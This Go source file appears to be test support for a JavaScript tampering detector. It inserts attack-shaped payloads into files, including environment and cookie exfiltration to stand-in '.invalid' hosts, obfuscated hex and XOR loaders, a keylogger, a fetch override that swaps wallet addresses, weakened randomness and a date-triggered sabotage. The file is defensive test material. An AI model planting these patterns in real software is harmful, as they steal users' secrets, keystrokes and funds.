// Package minifiedtest puts inert payloads into JavaScript, for tests and
// measurements of package minified. A payload has the shape of what attackers
// wrote and none of its function: names and hosts are made up, and nothing of
// it is ever run.
package minifiedtest

import (
	"bytes"
	"fmt"
	"regexp"
	"slices"
	"strings"

	"github.com/tdewolff/parse/v2"
	"github.com/tdewolff/parse/v2/js"
)

// A Way is one way to put a payload into a file, readable or minified.
type Way struct {
	Name string
	Doc  string
	Set  Set
	put  func(text []byte) []byte
}

// A Set says how a way, or a package, stands to the making of the method.
type Set string

// The sets.
const (
	Made Set = "made" // the method was made while looking at it
	Held Set = "held" // written before the method, and kept from it until it was first measured
	Late Set = "late" // written when the method was finished
)

// Put returns the text with the payload in it, and false if it has no place
// for it or the result is not JavaScript.
func (w Way) Put(text []byte) ([]byte, bool) {
	out := w.put(text)
	if out == nil || bytes.Equal(out, text) {
		return nil, false
	}
	return out, parses(out)
}

// Ways are all ways, by their sets.
var Ways = []Way{
	{"plain", "a request with the environment, at the end of the file", Made, atEnd(plain)},
	{"hex", "names of modules as hexadecimal text, decoded at run time, in a function", Made, inFunction(hexLoader)},
	{"xor", "numbers, XOR, fromCharCode, constructor; no string that tells", Made, inFunction(xorLoader)},
	{"names", "statements of names alone that the file has already", Made, existingNames},
	{"swap", "the longest string replaced by another of the same length, an address say", Made, swapString},
	{"start", "a request in a function that calls itself, at the start of the file", Made, atStart(beacon)},

	{"spread", "four pieces in four functions", Held, spread},
	{"comma", "in a comma expression that is returned", Held, inReturn},
	{"default", "in the default of a new parameter", Held, inDefault},
	{"blob", "a long hexadecimal text and a small loader", Held, inFunction(blobLoader())},
	{"random", "weak randomness in place of strong", Held, inFunction(weakRandom)},
	{"argument", "the argument of one call goes through another function", Held, inArgument},
	{"override", "a method of the platform replaced by one that looks into what passes", Held, atEnd(override)},
	{"members", "constructors reached by computed members of an array", Held, inFunction(members)},
	{"import", "an import at run time from another host", Held, atEnd(dynamicImport)},
	{"timer", "a timer that hands text to eval", Held, inFunction(timer)},

	{"element", "a script element from another host", Late, inFunction(element)},
	{"getter", "a method of all arrays replaced by a getter", Late, atEnd(getter)},
	{"write", "a file written by way of a module that is imported at run time", Late, atEnd(writeFile)},
	{"protest", "a sabotage that waits for a date", Late, inFunction(protest)},
	{"proxy", "what the module exports wrapped, so that calls are seen", Late, atEnd(wrapExports)},
	{"key", "a listener for keys", Late, inFunction(keys)},
	{"number", "a number that is handed to a method is another one", Late, swapNumber},
}

const (
	plain         = `var q9=require("https");q9.get("https://stat.invalid/c?d="+encodeURIComponent(JSON.stringify(process.env)));`
	hexLoader     = `try{var q8=require,q7=function(q6){return Buffer.from(q6,"hex").toString()},q5=q8(q7("2e2f746573742f64617461"));q5&&module.constructor.prototype._compile.call(new module.constructor,q5[1],q7("78"))}catch(q4){}`
	xorLoader     = `for(var q9=[117,98,115,114,117,105,39,55],q8="",q7=0;q7<q9.length;q7++)q8+=String.fromCharCode(q9[q7]^7);(function(){}).constructor(q8)();`
	beacon        = `(function(){var q9=new XMLHttpRequest;q9.open("POST","https://beacon.invalid/p",true);q9.send(localStorage.getItem("seed"))})();`
	weakRandom    = `globalThis.crypto.getRandomValues=function(q9){for(var q8=0;q8<q9.length;q8++)q9[q8]=Math.random()*256;return q9};`
	override      = `var q9=window.fetch;window.fetch=function(q8,q7){q7&&q7.body&&(q7.body=q7.body.replace(/0x[0-9a-f]{40}/gi,"0x000000000000000000000000000000000000dEaD"));return q9.call(this,q8,q7)};`
	members       = `var q9=[]["filter"]["constructor"];q9(q9("return document.title")())();`
	dynamicImport = `import("https://cdn.invalid/m.mjs").then(function(q9){q9.default(location.href)});`
	timer         = `setTimeout(function(){eval(atob("MQ=="+""))},9e5);`
	element       = `var q9=document.createElement("script");q9.src="//tag.invalid/t.js";document.head.appendChild(q9);`
	getter        = `Object.defineProperty(Array.prototype,"includes",{get:function(){return function(){return!0}}});`
	writeFile     = `import("node:fs").then(function(q9){q9.appendFileSync(process.argv[1],"1")});`
	protest       = `if(new Date().getTimezoneOffset()==-180&&Date.now()>17e11)for(;;)document.title+=1;`
	wrapExports   = `"object"==typeof module&&(module.exports=new Proxy(module.exports,{apply:function(q9,q8,q7){q9.q6=q7;return q9.apply(q8,q7)}}));`
	keys          = `addEventListener("keyup",function(q9){sessionStorage.k=(sessionStorage.k||"")+q9.key});`
	returned      = `(fetch("https://mirror.invalid/",{method:"POST",body:document.cookie}),0)`
	defaulted     = `q9=new Image().src="https://pixel.invalid/"+document.cookie`
)

func blobLoader() string {
	blob := strings.Repeat("7b2270223a31302c2276223a2278227d", 14)
	return `var q9="` + blob + `";q9=q9.replace(/../g,function(q8){return String.fromCharCode(parseInt(q8,16))});Function("q",q9)(0);`
}

func parses(text []byte) bool {
	_, err := js.Parse(parse.NewInputBytes(append([]byte(nil), text...)), js.Options{})
	return err == nil
}

// atEnd puts a payload on a line of its own, as the last may be a comment.
func atEnd(payload string) func([]byte) []byte {
	return func(text []byte) []byte {
		return fmt.Appendf(nil, "%s\n;%s\n", bytes.TrimRight(text, " \n"), payload)
	}
}

func atStart(payload string) func([]byte) []byte {
	return func(text []byte) []byte {
		if bytes.HasPrefix(text, []byte("#!")) {
			return nil
		}
		return append([]byte(payload), text...)
	}
}

// A head matches the head of a function with a body.
var head = regexp.MustCompile(`\bfunction\s*[\w$]*\s*\(([\w$,\s]*)\)\s*\{|\)\s*=>\s*\{|\b[\w$]=>\{`)

// heads returns where function bodies start.
func heads(text []byte) []int {
	var all []int
	for _, m := range head.FindAllIndex(text, -1) {
		all = append(all, m[1])
	}
	return all
}

// insert puts pieces at offsets, which ascend.
func insert(text []byte, pieces []string, at []int) []byte {
	var out []byte
	last := 0
	for i, p := range pieces {
		out = append(append(out, text[last:at[i]]...), p...)
		last = at[i]
	}
	return append(out, text[last:]...)
}

// inFunction tries functions from the middle of the file on, until the result
// is JavaScript: a comment may look like a function.
func inFunction(payload string) func([]byte) []byte {
	return func(text []byte) []byte {
		all := heads(text)
		for i := range min(len(all), 40) {
			out := insert(text, []string{payload}, all[(len(all)/2+i)%len(all):][:1])
			if parses(out) && marks(out) > marks(text) {
				return out
			}
		}
		return nil
	}
}

// marks counts tokens, so that a payload in a comment is seen.
func marks(text []byte) int {
	tree, err := js.Parse(parse.NewInputBytes(append([]byte(nil), text...)), js.Options{})
	if err != nil {
		return 0
	}
	n := counter(0)
	js.Walk(&n, tree)
	return int(n)
}

type counter int

// Enter counts a node.
func (c *counter) Enter(js.INode) js.IVisitor {
	*c++
	return c
}

// Exit does nothing.
func (c *counter) Exit(js.INode) {}

func spread(text []byte) []byte {
	pieces := []string{
		`globalThis.q9=globalThis.q9||[];`,
		`globalThis.q9.push(arguments);`,
		`globalThis.q9.length>99&&navigator.sendBeacon("https://drop.invalid/",globalThis.q9.join());`,
		`globalThis.q9.length>200&&(globalThis.q9=[]);`,
	}
	all := slices.DeleteFunc(heads(text), func(at int) bool { return commented(text, at) })
	if len(all) == 0 {
		return nil
	}
	var at []int
	for i := range pieces {
		at = append(at, all[i*len(all)/len(pieces)])
	}
	return insert(text, pieces, at)
}

// commented tells a place that may be in a comment.
func commented(text []byte, at int) bool {
	line := bytes.LastIndexByte(text[:at], '\n') + 1
	return bytes.Contains(text[line:at], []byte("//")) || bytes.LastIndex(text[:at], []byte("/*")) > bytes.LastIndex(text[:at], []byte("*/"))
}

var returnName = regexp.MustCompile(`\breturn [\w$]+[;}]`)

func inReturn(text []byte) []byte {
	return firstThatGrows(text, returnName, func(m []byte) string { return "return " + returned + "," + string(m[len("return "):]) })
}

var headWithName = regexp.MustCompile(`\bfunction\s*[\w$]*\s*\([\w$, ]+\)\s*\{[^"']`)

func inDefault(text []byte) []byte {
	return firstThatGrows(text, headWithName, func(m []byte) string {
		at := bytes.LastIndexByte(m, ')')
		return string(m[:at]) + "," + defaulted + string(m[at:])
	})
}

var callWithName = regexp.MustCompile(`\.[\w$]+\([\w$]+\)`)

func inArgument(text []byte) []byte {
	return firstThatGrows(text, callWithName, func(m []byte) string {
		at := bytes.IndexByte(m, '(')
		return string(m[:at]) + `((globalThis.onqueue||String).call(0,` + string(m[at+1:]) + `)`
	})
}

// firstThatGrows replaces the first match, from the middle on, for which the
// result is JavaScript with more in it.
func firstThatGrows(text []byte, where *regexp.Regexp, by func(match []byte) string) []byte {
	all := where.FindAllIndex(text, -1)
	for i := range min(len(all), 40) {
		m := all[(len(all)/2+i)%len(all)]
		out := append(append(append([]byte(nil), text[:m[0]]...), by(text[m[0]:m[1]])...), text[m[1]:]...)
		if parses(out) && marks(out) > marks(text) {
			return out
		}
	}
	return nil
}

var property = regexp.MustCompile(`[\w$)\]]\.([A-Za-z_$][\w$]{2,})`)

// existingNames makes statements of property names that the file has.
func existingNames(text []byte) []byte {
	seen := make(map[string]bool)
	var names []string
	for _, m := range property.FindAllSubmatch(text, -1) {
		if n := string(m[1]); !seen[n] {
			seen[n] = true
			names = append(names, n)
		}
	}
	if len(names) == 0 {
		return nil
	}
	n := func(i int) string { return names[i*7%len(names)] }
	payload := fmt.Sprintf("var q9=this;if(q9.%s){for(q9=q9.%s;q9.%s;q9=q9.%s)q9.%s=q9.%s.%s;q9.%s=q9.%s(q9.%s)||q9.%s;q9.%s(q9.%s.%s,q9.%s);}",
		n(0), n(1), n(2), n(3), n(4), n(5), n(6), n(7), n(8), n(9), n(10), n(11), n(12), n(13), n(14))
	return inFunction(payload)(text)
}

// swapString replaces the longest string that is written with letters, digits
// and signs of addresses alone.
func swapString(text []byte) []byte {
	out := append(make([]byte, 0, len(text)+1), text...)
	in := parse.NewInputBytes(out)
	tree, err := js.Parse(in, js.Options{})
	if err != nil {
		return nil
	}
	var best longest
	js.Walk(&best, tree)
	for i := 1; i < len(best)-1; i++ {
		best[i] = "bc1q7x9"[i%7] // a slice of out
	}
	return out
}

var callWithNumber = regexp.MustCompile(`\.[\w$]{3,}\(\d{2,}[,)]`)

func swapNumber(text []byte) []byte {
	m := callWithNumber.FindIndex(text)
	if m == nil || commented(text, m[0]) {
		return nil
	}
	at := m[0] + bytes.IndexByte(text[m[0]:], '(') + 1
	return append(append(append([]byte(nil), text[:at]...), "7919"...), text[m[1]-1:]...)
}

// longest is the longest string literal, as a slice of what was parsed.
type longest []byte

var address = regexp.MustCompile(`^["'][A-Za-z0-9 ./:_-]{4,}["']$`)

// Enter looks at a literal.
func (l *longest) Enter(n js.INode) js.IVisitor {
	if e, ok := n.(*js.LiteralExpr); ok && e.TokenType == js.StringToken && len(e.Data) > len(*l) && address.Match(e.Data) {
		*l = e.Data
	}
	return l
}

// Exit does nothing.
func (l *longest) Exit(js.INode) {}
